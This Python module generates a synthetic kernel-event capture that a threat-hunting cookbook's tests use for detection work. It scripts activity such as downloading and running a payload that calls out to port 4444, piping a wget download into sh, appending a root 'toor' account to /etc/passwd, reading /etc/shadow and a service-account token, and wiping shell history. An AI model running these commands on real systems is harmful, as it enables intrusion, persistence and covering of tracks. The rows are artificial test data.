"""A small scripted capture with the activity the hunting cookbook looks for.

``python -m fcap.analyze.hunt.sample OUT.parquet`` writes it. The rows are
written through :func:`fcap.capture.synth.make_capture` (the capture format of
:mod:`fcap.schema`, every column a real recording fills), following a script
of what happened on host ``node-1``:

* alice (uid 1000, logged in over ssh on pts/0) fails to ``cat /etc/shadow``,
  then reads it with ``sudo``;
* she downloads ``/tmp/.x`` with curl, makes it executable and runs it; it
  deletes itself, connects out to port 4444 and re-executes from a memfd
  disguised as a kernel thread;
* she starts ``nc -lvp 9001``, builds a project with ``make`` (a process tree
  writing, renaming and deleting files), truncates her bash history, and
  tries a missing ``nmap``;
* in the pod ``shop/web-7d9f`` (container ``a1b2c3d4e5f6``) someone enters
  ``/bin/sh`` with a terminal (``kubectl exec -it``), reads and appends to
  ``/etc/passwd``, runs ``apt-get update`` (exit 100), pipes a download into
  ``sh`` and deletes the shell history;
* in the pod ``shop/api-5c8`` (container ``f00dfeedbeef``) nginx accepts a
  client, talks to its database and DNS, reads its service-account token and
  spawns ``sh -c id``;
* sshd accepts a connection from 192.0.2.44.

This is a synthetic capture for the documentation tests until a recorded
sample with the same activity exists in ``samples/``.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

HOST = "node-1"
C1 = "a1b2c3d4e5f6" + "7" * 52
C2 = "f00dfeedbeef" + "1" * 52
TTY0 = 34816  # pts/0: new_encode_dev(136, 0)
TTY1 = 34817  # pts/1
UNSET = 4294967295
O_RDONLY_CLOEXEC = 0o2000000
O_WRITE_CREATE_TRUNC = 0o1101
O_WRITE_CREATE_APPEND = 0o2101
MS = 1_000_000


class _Script:
    """Collects EVENTS rows in time order with sensible per-process defaults."""

    def __init__(self, t0: int) -> None:
        self.t0 = t0
        self.rows: list[dict[str, Any]] = []
        self.procs: dict[int, dict[str, Any]] = {}

    def proc(self, pid: int, **attrs: Any) -> None:
        attrs.setdefault("tty", 0)
        attrs.setdefault("loginuid", UNSET)
        self.procs[pid] = attrs

    def ev(self, ms: float, pid: int, syscall: str, **cols: Any) -> None:
        base = dict(self.procs[pid])
        base.update(cols)
        row = {"ts": self.t0 + int(ms * MS), "pid": pid, "tid": base.pop("tid", pid),
               "syscall": syscall, **base}
        row.setdefault("res", 0)
        self.rows.append(row)

    def fork(self, ms: float, parent: int, child: int) -> None:
        attrs = dict(self.procs[parent])
        attrs["ppid"] = parent
        self.procs[child] = attrs
        self.ev(ms, child, "clone", res=0)

    def execve(self, ms: float, pid: int, exe: str, argv: list[str], **changes: Any) -> None:
        self.procs[pid].update(changes)
        self.procs[pid]["comm"] = changes.get("comm", Path(exe).name)[:15]
        self.ev(ms, pid, "execve", exe=exe, argv=argv, res=0)

    def exit(self, ms: float, pid: int, code: int = 0) -> None:
        self.ev(ms, pid, "procexit", res=code)

    def openat(self, ms: float, pid: int, path: str, flags: int, res: int, mode: int = 0) -> None:
        self.ev(ms, pid, "openat", a0=-100, a2=flags, a3=mode, path=path, res=res,
                fd=res if res >= 0 else None)

    def sock(self, ms: float, pid: int, syscall: str, fd: int, *, laddr: str | None = None,
             lport: int | None = None, raddr: str | None = None, rport: int | None = None,
             proto: int = 6, res: int = 0) -> None:
        self.ev(ms, pid, syscall, fd=fd, sock_family=2, sock_type=1 if proto == 6 else 2,
                l4proto=proto, laddr=laddr, lport=lport, raddr=raddr, rport=rport, res=res)

    def typed(self, ms: float, pid: int, line: str) -> None:
        self.ev(ms, pid, "shell_line", text=line)


def _snapshot(t0: int) -> list[dict[str, Any]]:
    def p(pid: int, ppid: int, comm: str, exe: str, argv: list[str], uid: int = 0,
          start: float = -3600, **kw: Any) -> dict[str, Any]:
        return {"pid": pid, "ppid": ppid, "vpid": kw.pop("vpid", pid), "sid": kw.pop("sid", pid),
                "pgid": pid, "comm": comm, "exe": argv[0], "exepath": exe, "argv": argv,
                "cwd": kw.pop("cwd", "/"), "uid": uid, "gid": uid, "euid": uid, "egid": uid,
                "loginuid": kw.pop("loginuid", UNSET), "tty": kw.pop("tty", 0),
                "start_ts": t0 + int(start * 1e9), **kw}

    return [
        p(1, 0, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"]),
        p(410, 1, "sshd", "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D"]),
        p(900, 1, "containerd", "/usr/bin/containerd", ["/usr/bin/containerd"]),
        p(950, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
          ["/usr/bin/containerd-shim-runc-v2", "-id", C1]),
        p(960, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
          ["/usr/bin/containerd-shim-runc-v2", "-id", C2]),
        p(1200, 410, "sshd", "/usr/sbin/sshd", ["sshd: alice [priv]"], start=-600),
        p(1210, 1200, "bash", "/usr/bin/bash", ["-bash"], uid=1000, loginuid=1000, tty=TTY0,
          sid=1210, cwd="/home/alice", start=-590),
        p(2000, 960, "nginx", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], start=-3000,
          container_id=C2, vpid=1),
        p(2001, 2000, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], uid=101,
          start=-3000, container_id=C2, vpid=7),
        p(3000, 950, "sleep", "/bin/busybox", ["sleep", "infinity"], start=-3000,
          container_id=C1, vpid=1),
    ]


def _events(t0: int) -> list[dict[str, Any]]:
    s = _Script(t0)
    host_sshd = {"uid": 0, "gid": 0, "loginuid": UNSET, "tty": 0, "comm": "sshd", "ppid": 1}
    s.proc(410, **host_sshd)
    s.proc(1, uid=0, gid=0, comm="systemd", ppid=0)
    s.proc(1210, uid=1000, gid=1000, euid=1000, loginuid=1000, tty=TTY0, comm="bash",
           ppid=1200, sid=1210, cwd="/home/alice")
    s.proc(950, uid=0, comm="containerd-shim", ppid=1)
    s.proc(2001, uid=101, gid=101, comm="nginx", ppid=2000, container_id=C2, vpid=7)

    # background noise: systemd and nginx reading files
    for i in range(5):
        s.openat(100 + i, 1, f"/proc/{400 + i}/cgroup", O_RDONLY_CLOEXEC, 20 + i)
        s.ev(100.5 + i, 1, "close", fd=20 + i)
    s.openat(150, 2001, "/var/www/html/index.html", O_RDONLY_CLOEXEC, 12)

    # A. /etc/shadow: denied, then read through sudo
    s.typed(800, 1210, "cat /etc/shadow")
    s.fork(801, 1210, 5000)
    s.execve(802, 5000, "/usr/bin/cat", ["cat", "/etc/shadow"])
    s.openat(803, 5000, "/etc/shadow", O_RDONLY_CLOEXEC, -13)
    s.exit(804, 5000, 1)
    s.typed(1000, 1210, "sudo cat /etc/shadow")
    s.fork(1001, 1210, 5001)
    s.execve(1002, 5001, "/usr/bin/sudo", ["sudo", "cat", "/etc/shadow"], euid=0)
    s.fork(1009, 5001, 5002)
    s.execve(1010, 5002, "/usr/bin/cat", ["cat", "/etc/shadow"], uid=0, gid=0, euid=0)
    s.openat(1011, 5002, "/etc/shadow", O_RDONLY_CLOEXEC, 3)
    s.ev(1011.5, 5002, "close", fd=3)
    s.exit(1012, 5002, 0)
    s.exit(1013, 5001, 0)

    # B. download, chmod, execute, self-delete, call home, memfd re-exec
    s.typed(2000, 1210, "curl -so /tmp/.x http://203.0.113.7/x")
    s.fork(2001, 1210, 5010)
    s.execve(2002, 5010, "/usr/bin/curl", ["curl", "-so", "/tmp/.x", "http://203.0.113.7/x"])
    s.sock(2010, 5010, "connect", 4, laddr="10.0.0.5", lport=41000, raddr="203.0.113.7", rport=80)
    s.openat(2050, 5010, "/tmp/.x", O_WRITE_CREATE_TRUNC, 5, 0o644)
    s.exit(2100, 5010, 0)
    s.typed(3000, 1210, "chmod +x /tmp/.x && /tmp/.x")
    s.fork(3001, 1210, 5011)
    s.execve(3002, 5011, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.x"])
    s.ev(3003, 5011, "fchmodat", a0=-100, a2=0o755, path="/tmp/.x")
    s.exit(3004, 5011, 0)
    s.fork(3499, 1210, 5012)
    s.execve(3500, 5012, "/tmp/.x", ["/tmp/.x"])
    s.ev(3510, 5012, "unlinkat", a0=-100, a2=0, path="/tmp/.x")
    s.sock(3600, 5012, "connect", 3, laddr="10.0.0.5", lport=41002, raddr="203.0.113.7",
           rport=4444)
    s.ev(3650, 5012, "memfd_create", fd=6, res=6, path="memfd:kworker")
    s.fork(3700, 5012, 5013)
    s.execve(3710, 5013, "/memfd:kworker (deleted)", ["[kworker/0:1]"], comm="kworker/0:1")
    s.exit(3800, 5012, 0)

    # E. a listener and an inbound ssh connection
    s.typed(4000, 1210, "nc -lvp 9001 &")
    s.fork(4001, 1210, 5020)
    s.execve(4002, 5020, "/usr/bin/nc", ["nc", "-lvp", "9001"])
    s.sock(4010, 5020, "bind", 3, laddr="0.0.0.0", lport=9001)
    s.sock(4011, 5020, "listen", 3, laddr="0.0.0.0", lport=9001)
    s.sock(4500, 410, "accept4", 5, laddr="10.0.0.5", lport=22, raddr="192.0.2.44", rport=40022,
           res=5)

    # C. kubectl exec -it into shop/web-7d9f: sh with a terminal in container C1
    s.fork(4999, 950, 6001)
    s.execve(5000, 6001, "/bin/busybox", ["sh"], comm="sh", container_id=C1, tty=TTY1, vpid=12,
             cwd="/")
    s.typed(5100, 6001, "cat /etc/passwd")
    s.fork(5101, 6001, 6002)
    s.execve(5102, 6002, "/bin/busybox", ["cat", "/etc/passwd"], comm="cat")
    s.openat(5103, 6002, "/etc/passwd", O_RDONLY_CLOEXEC, 3)
    s.exit(5104, 6002, 0)
    s.typed(5200, 6001, "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd")
    s.openat(5201, 6001, "/etc/passwd", O_WRITE_CREATE_APPEND, 3, 0o666)
    s.typed(5300, 6001, "apt-get update")
    s.fork(5301, 6001, 6003)
    s.execve(5302, 6003, "/usr/bin/apt-get", ["apt-get", "update"])
    s.sock(5310, 6003, "connect", 4, laddr="10.244.1.17", lport=50100, raddr="151.101.2.132",
           rport=80)
    s.exit(5400, 6003, 100)
    s.typed(5500, 6001, "wget -qO- http://198.51.100.5/x.sh | sh")
    s.fork(5501, 6001, 6004)
    s.execve(5502, 6004, "/bin/busybox", ["wget", "-qO-", "http://198.51.100.5/x.sh"],
             comm="wget")
    s.sock(5510, 6004, "connect", 3, laddr="10.244.1.17", lport=50102, raddr="198.51.100.5",
           rport=80)
    s.exit(5520, 6004, 0)
    s.typed(5600, 6001, "rm -f /root/.ash_history")
    s.fork(5601, 6001, 6005)
    s.execve(5602, 6005, "/bin/busybox", ["rm", "-f", "/root/.ash_history"], comm="rm")
    s.ev(5603, 6005, "unlinkat", a0=-100, a2=0, path="/root/.ash_history")
    s.exit(5604, 6005, 0)

    # D. nginx in shop/api-5c8 (container C2)
    s.sock(6000, 2001, "accept4", 9, laddr="10.244.2.5", lport=80, raddr="10.244.1.9",
           rport=51515, res=9)
    s.sock(6010, 2001, "connect", 10, laddr="10.244.2.5", lport=38000, raddr="10.96.0.20",
           rport=5432)
    s.sock(6020, 2001, "sendto", 11, laddr="10.244.2.5", lport=53000, raddr="10.96.0.10",
           rport=53, proto=17, res=40)
    s.openat(6030, 2001, "/var/run/secrets/kubernetes.io/serviceaccount/token",
             O_RDONLY_CLOEXEC, 13)
    s.fork(6040, 2001, 6100)
    s.execve(6041, 6100, "/bin/sh", ["sh", "-c", "id"], comm="sh")
    s.exit(6050, 6100, 0)

    # F. make: a process tree writing files
    s.typed(8000, 1210, "make")
    s.fork(8001, 1210, 5030)
    s.execve(8002, 5030, "/usr/bin/make", ["make"], cwd="/home/alice/src")
    s.fork(8010, 5030, 5031)
    s.execve(8011, 5031, "/usr/bin/cc", ["cc", "-c", "main.c", "-o", "main.o"])
    s.openat(8012, 5031, "/home/alice/src/main.c", O_RDONLY_CLOEXEC, 3)
    s.openat(8013, 5031, "/home/alice/src/main.o", O_WRITE_CREATE_TRUNC, 4, 0o666)
    s.exit(8020, 5031, 0)
    s.fork(8030, 5030, 5032)
    s.execve(8031, 5032, "/usr/bin/ld", ["ld", "-o", "app", "main.o"])
    s.openat(8032, 5032, "/home/alice/src/app.tmp", O_WRITE_CREATE_TRUNC, 3, 0o777)
    s.ev(8033, 5032, "renameat2", a0=-100, a2=-100, path="/home/alice/src/app.tmp",
         path2="/home/alice/src/app")
    s.exit(8040, 5032, 0)
    s.ev(8050, 5030, "unlinkat", a0=-100, a2=0, path="/home/alice/src/main.o")
    s.exit(8060, 5030, 0)

    # G, H. history truncated by the shell itself; a missing program
    s.typed(9000, 1210, ": > ~/.bash_history")
    s.openat(9001, 1210, "/home/alice/.bash_history", O_WRITE_CREATE_TRUNC, 3, 0o600)
    s.typed(9500, 1210, "nmap -sS 10.0.0.0/24")
    s.fork(9501, 1210, 5040)
    s.ev(9502, 5040, "execve", exe="/usr/bin/nmap", argv=["nmap", "-sS", "10.0.0.0/24"], res=-2)
    s.exit(9503, 5040, 127)
    return s.rows


def _containers(t0: int) -> list[dict[str, Any]]:
    return [
        {"id": C1, "name": "web", "image": "docker.io/library/nginx:1.25",
         "runtime": "runc", "type": "containerd", "privileged": False, "pid": 3000,
         "start_ts": t0 - 3000 * 10**9, "pod_name": "web-7d9f", "pod_namespace": "shop",
         "pod_uid": "0d9c7f0e-1111-4c4c-9a9a-000000000001"},
        {"id": C2, "name": "api", "image": "registry.example.com/shop/api:2.1",
         "runtime": "runc", "type": "containerd", "privileged": True, "pid": 2000,
         "start_ts": t0 - 3000 * 10**9, "pod_name": "api-5c8", "pod_namespace": "shop",
         "pod_uid": "0d9c7f0e-2222-4c4c-9a9a-000000000002"},
    ]


def _users() -> list[dict[str, Any]]:
    host = [
        {"uid": 0, "name": "root", "gid": 0, "home": "/root", "shell": "/bin/bash"},
        {"uid": 1000, "name": "alice", "gid": 1000, "home": "/home/alice", "shell": "/bin/bash"},
        {"uid": 101, "name": "systemd-resolve", "gid": 101, "home": "/run/systemd",
         "shell": "/usr/sbin/nologin"},
    ]
    in_c1 = [{"uid": 0, "name": "root", "gid": 0, "home": "/root", "shell": "/bin/sh",
              "container_id": C1}]
    in_c2 = [{"uid": 0, "name": "root", "gid": 0, "home": "/root", "shell": "/bin/sh",
              "container_id": C2},
             {"uid": 101, "name": "nginx", "gid": 101, "home": "/nonexistent",
              "shell": "/bin/false", "container_id": C2}]
    return host + in_c1 + in_c2


def build(path: Path | str, *, hostname: str = HOST) -> Path:
    """Write the sample capture to ``path`` and return it."""
    from fcap.capture.synth import BASE_TS, make_capture

    t0 = BASE_TS
    return make_capture(
        path,
        _events(t0),
        processes=_snapshot(t0),
        containers=_containers(t0),
        users=_users(),
        meta={"hostname": hostname, "start_ns": t0, "end_ns": t0 + 10 * 10**9},
    )


def main(argv: list[str] | None = None) -> None:
    """``python -m fcap.analyze.hunt.sample OUT.parquet``."""
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python -m fcap.analyze.hunt.sample OUT.parquet", file=sys.stderr)
        raise SystemExit(2)
    print(build(args[0]))


if __name__ == "__main__":
    main()
